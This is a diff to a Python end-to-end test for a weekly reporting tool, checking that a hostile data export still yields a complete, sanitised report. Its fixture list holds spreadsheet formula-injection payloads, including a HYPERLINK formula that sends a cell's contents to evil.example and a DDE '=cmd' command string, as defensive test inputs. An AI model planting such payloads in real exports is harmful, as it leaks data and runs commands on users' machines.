@@ -19,6 +19,8 @@ from reporting.export.files import write_records_csv
 from reporting.intake.hygiene import clean_text
 from tests.conftest import WEEK, libreoffice_resave, run_cli, weekly_args
 
+pytestmark = pytest.mark.e2e  # every test runs the weekly report on a hostile export
+
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)")
 HOSTILE = (
     "\x08服务太慢了，很不满意",
@@ -101,7 +103,8 @@ def test_a_hostile_export_gives_a_complete_report(hostile_run):
     assert "Traceback" not in result.stderr
     check_artefacts(folder, HOSTILE)
     metrics = json.loads((folder / "metrics.json").read_text(encoding="utf-8"))
-    assert metrics["ledger"]["controls_removed"] >= 6
+    # cells that lost a control character: each hostile text sits in one comment and one suggestion, the name in one cell
+    assert metrics["ledger"]["controls_removed"] == 2 * sum(clean_text(t)[1] for t in HOSTILE) + 1 == 9
     assert "另有" in (folder / "report.html").read_text(encoding="utf-8")  # the data-quality note counts them
 
 
